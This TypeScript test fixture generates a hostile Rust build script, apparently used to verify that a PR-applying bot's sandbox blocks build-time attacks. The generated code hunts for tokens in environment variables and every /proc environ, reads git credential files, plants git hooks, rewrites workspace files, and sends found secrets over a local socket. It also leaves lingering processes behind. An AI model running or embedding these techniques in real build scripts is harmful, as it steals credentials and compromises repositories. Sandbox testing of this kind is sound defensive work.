/** Where the hostile build script aims; baked into its source when the fixture is made. */
export interface HostileTargets {
  /** The user's work tree (the attacker is assumed to know it). */
  userRepo: string;
  /** The bot's real HOME, holding credentials. */
  botHome: string;
  /** A TCP server of the test on 127.0.0.1. */
  port: number;
  /** A host path the script tries to create; its hooks would create `<escape>.hook-fired`. */
  escape: string;
  /** A word in the command line of the processes it leaves behind (pgrep -f). */
  lingerMarker: string;
}

/** Names of the attacks the script reports, one `ATTACK <name> blocked|SUCCEEDED` line each. */
export const BUILD_SCRIPT_ATTACKS = [
  'env-token',
  'parent-environ',
  'pid1-environ',
  'all-environ',
  'user-git-config',
  'home-files',
  'socket',
  'user-git-hooks',
  'scratch-repo',
  'rewrite-patched-file',
  'rewrite-cargo-lock',
  'escape-write',
] as const;

function rustString(text: string): string {
  return JSON.stringify(text);
}

/**
 * A build script that attacks whatever it can reach and reports each attempt as a
 * `cargo:warning` (so it lands in the check output and the PR body). Any success makes it
 * panic, which turns the check red: a green check proves every attack failed. It runs on
 * every check (`rerun-if-changed` on a missing path) and tells the crate it ran (a cfg the
 * crate requires), so a green check also proves it did run. Two more behaviours depend on the
 * patched file in the worktree: a patched shapes.rs makes it print megabytes, a units.rs with
 * the linger comment makes it leave a `setsid` process behind and hang past the time limit.
 */
export function hostileBuildScript(t: HostileTargets): string {
  return `use std::{env, fs, io::Write, net::{SocketAddr, TcpStream}, path::Path, process::{Command, Stdio}, time::Duration};

const USER_REPO: &str = ${rustString(t.userRepo)};
const BOT_HOME: &str = ${rustString(t.botHome)};
const PORT: u16 = ${t.port};
const ESCAPE: &str = ${rustString(t.escape)};
const LINGER: &str = ${rustString(t.lingerMarker)};

fn looks_secret(text: &str) -> bool {
    ["ghp_", "gho_", "ghs_", "github_pat_", "GITHUB_TOKEN", "GITEA_TOKEN", "SCRUM_APPLY_LLM_KEY", "PRIVATE_KEY", "WEBHOOK_SECRET"]
        .iter()
        .any(|needle| text.contains(needle))
}

fn one_line(text: &str) -> String {
    text.replace('\\n', " ").replace('\\r', " ").chars().take(300).collect()
}

struct Report { lines: Vec<String>, succeeded: Vec<String>, loot: String }

impl Report {
    fn blocked(&mut self, name: &str, why: String) { self.lines.push(format!("ATTACK {} blocked: {}", name, one_line(&why))); }
    fn succeeded(&mut self, name: &str, loot: String) {
        self.lines.push(format!("ATTACK {} SUCCEEDED", name));
        self.succeeded.push(name.to_string());
        self.loot.push_str(&loot);
        self.loot.push('\\n');
    }
}

fn environ_of(pid: &str) -> Result<String, String> {
    fs::read(format!("/proc/{}/environ", pid)).map(|b| String::from_utf8_lossy(&b).replace('\\0', "\\n")).map_err(|e| e.to_string())
}

fn parent_of(pid: u32) -> Option<u32> {
    let stat = fs::read_to_string(format!("/proc/{}/stat", pid)).ok()?;
    stat.rsplit_once(')')?.1.split_whitespace().nth(1)?.parse().ok()
}

fn write_file(path: &str, content: &[u8], append: bool) -> Result<(), String> {
    // No create_dir_all: in the sandbox that would only fill its own private /tmp.
    let p = Path::new(path);
    fs::OpenOptions::new().create(true).write(true).append(append).truncate(!append).open(p)
        .and_then(|mut f| f.write_all(content)).map_err(|e| format!("{}: {}", path, e))
}

fn main() {
    println!("cargo:rerun-if-changed=/nonexistent/scrum-apply-adversarial");
    println!("cargo:rustc-check-cfg=cfg(hostile_ran)");
    let manifest = env::var("CARGO_MANIFEST_DIR").unwrap();
    let workspace = Path::new(&manifest).join("../..");
    let mut r = Report { lines: Vec::new(), succeeded: Vec::new(), loot: String::new() };

    // The bot's token in the environment.
    let found: Vec<String> = env::vars().filter(|(k, v)| looks_secret(k) || looks_secret(v)).map(|(k, v)| format!("{}={}", k, v)).collect();
    if found.is_empty() { r.blocked("env-token", format!("{} variables, none secret", env::vars().count())); } else { r.succeeded("env-token", found.join(";")); }

    // Every ancestor's environment, up to pid 1 (the bot is an ancestor without a sandbox).
    let mut pid = std::os::unix::process::parent_id();
    let (mut seen, mut loot, mut errors) = (Vec::new(), String::new(), Vec::new());
    while pid > 0 && seen.len() < 64 {
        match environ_of(&pid.to_string()) { Ok(text) => if looks_secret(&text) { loot.push_str(&text) }, Err(e) => errors.push(format!("{}: {}", pid, e)) }
        seen.push(pid);
        match parent_of(pid) { Some(p) if p != pid => pid = p, _ => break }
    }
    if loot.is_empty() { r.blocked("parent-environ", format!("ancestors {:?} hold no secret; {:?}", seen, errors)); } else { r.succeeded("parent-environ", loot); }

    match environ_of("1") {
        Ok(text) if looks_secret(&text) => r.succeeded("pid1-environ", text),
        Ok(text) => r.blocked("pid1-environ", format!("no secret in {} bytes", text.len())),
        Err(e) => r.blocked("pid1-environ", e),
    }

    let (mut read, mut loot) = (0, String::new());
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().to_string();
        if !name.chars().all(|c| c.is_ascii_digit()) { continue; }
        if let Ok(text) = environ_of(&name) { read += 1; if looks_secret(&text) { loot.push_str(&text) } }
    }
    if loot.is_empty() { r.blocked("all-environ", format!("{} environments read, none secret", read)); } else { r.succeeded("all-environ", loot); }

    match fs::read_to_string(format!("{}/.git/config", USER_REPO)) {
        Ok(text) => r.succeeded("user-git-config", text),
        Err(e) => r.blocked("user-git-config", e.to_string()),
    }

    let home = env::var("HOME").unwrap_or_default();
    let mut loot = String::new();
    let mut why = Vec::new();
    for path in [format!("{}/.git-credentials", BOT_HOME), format!("{}/.gitconfig", BOT_HOME), format!("{}/.git-credentials", home)] {
        match fs::read_to_string(&path) { Ok(text) => loot.push_str(&text), Err(e) => why.push(format!("{}: {}", path, e)) }
    }
    if loot.is_empty() { r.blocked("home-files", why.join("; ")); } else { r.succeeded("home-files", loot); }

    let addr: SocketAddr = format!("127.0.0.1:{}", PORT).parse().unwrap();
    match TcpStream::connect_timeout(&addr, Duration::from_secs(2)) {
        Ok(mut stream) => { let _ = stream.write_all(b"hello from the build script\\n"); r.succeeded("socket", String::new()); }
        Err(e) => r.blocked("socket", e.to_string()),
    }

    let hook = format!("#!/bin/sh\\ntouch {}.hook-fired\\n", ESCAPE);
    let mut wrote = Vec::new();
    let mut why = Vec::new();
    for name in ["post-checkout", "pre-push", "reference-transaction", "pre-commit"] {
        let path = format!("{}/.git/hooks/{}", USER_REPO, name);
        match write_file(&path, hook.as_bytes(), false) { Ok(()) => wrote.push(path), Err(e) => why.push(e) }
    }
    if wrote.is_empty() { r.blocked("user-git-hooks", why.join("; ")); } else { r.succeeded("user-git-hooks", wrote.join(" ")); }

    // The worktree's .git file names the scratch repository: its hooks and config steer the push.
    match fs::read_to_string(workspace.join(".git")) {
        Err(e) => r.blocked("scratch-repo", format!("no .git file: {}", e)),
        Ok(pointer) => {
            let admin = pointer.trim().trim_start_matches("gitdir:").trim().to_string();
            let common = format!("{}/../..", admin);
            let attempts = [
                write_file(&format!("{}/hooks/pre-push", common), hook.as_bytes(), false),
                write_file(&format!("{}/config", common), b"\\n[core]\\n\\thooksPath = /tmp\\n", true),
            ];
            let why: Vec<String> = attempts.iter().filter_map(|a| a.clone().err()).collect();
            if why.len() == attempts.len() { r.blocked("scratch-repo", why.join("; ")); } else { r.succeeded("scratch-repo", common); }
        }
    }

    let mut why = Vec::new();
    let mut wrote = false;
    for file in ["crates/geometry/src/shapes.rs", "crates/report/src/format.rs"] {
        match write_file(&workspace.join(file).to_string_lossy(), b"\\npub fn injected_by_build_script() {}\\n", true) { Ok(()) => wrote = true, Err(e) => why.push(e) }
    }
    if wrote { r.succeeded("rewrite-patched-file", String::new()); } else { r.blocked("rewrite-patched-file", why.join("; ")); }

    match write_file(&workspace.join("Cargo.lock").to_string_lossy(), b"\\n# injected by the build script\\n", true) {
        Ok(()) => r.succeeded("rewrite-cargo-lock", String::new()),
        Err(e) => r.blocked("rewrite-cargo-lock", e),
    }

    match write_file(ESCAPE, b"escaped", false) {
        Ok(()) => r.succeeded("escape-write", String::new()),
        Err(e) => r.blocked("escape-write", e),
    }

    for line in &r.lines { println!("cargo:warning={}", line); }

    if !r.succeeded.is_empty() {
        // Exfiltrate what was found through every channel left, then fail loudly.
        if let Ok(mut stream) = TcpStream::connect_timeout(&addr, Duration::from_secs(2)) { let _ = stream.write_all(r.loot.as_bytes()); }
        println!("cargo:warning=LOOT {}", one_line(&r.loot));
        panic!("attacks succeeded: {:?}", r.succeeded);
    }

    let shapes = fs::read_to_string(workspace.join("crates/geometry/src/shapes.rs")).unwrap_or_default();
    if shapes.contains("consts::PI") {
        let filler = "x".repeat(100);
        for i in 0..40000 { println!("cargo:warning=LOUD {} {}", i, filler); }
        println!("cargo:warning=LOUD-TAIL-MARKER");
    }

    let units = fs::read_to_string(workspace.join("crates/geometry/src/units.rs")).unwrap_or_default();
    if units.contains("scrum-adversarial: linger") {
        let script = format!("sleep 600; echo {}", LINGER);
        let _ = Command::new("setsid").args(["sh", "-c", &script]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
        let _ = Command::new("setsid").args(["-f", "sh", "-c", &script]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
        println!("cargo:warning=LINGERING");
        loop { std::thread::sleep(Duration::from_secs(1)); }
    }

    println!("cargo:rustc-cfg=hostile_ran");
}
`;
}

export const HOSTILE_LIB_RS = `//! Compiles only when its build script ran to the end.

#[cfg(not(hostile_ran))]
compile_error!("the hostile build script did not run to the end");

pub fn hostile() -> u32 {
    7
}
`;

export const HOSTILE_CARGO_TOML = `[package]
name = "hostile"
version = "0.1.0"
edition = "2021"
build = "build.rs"

[dependencies]
`;
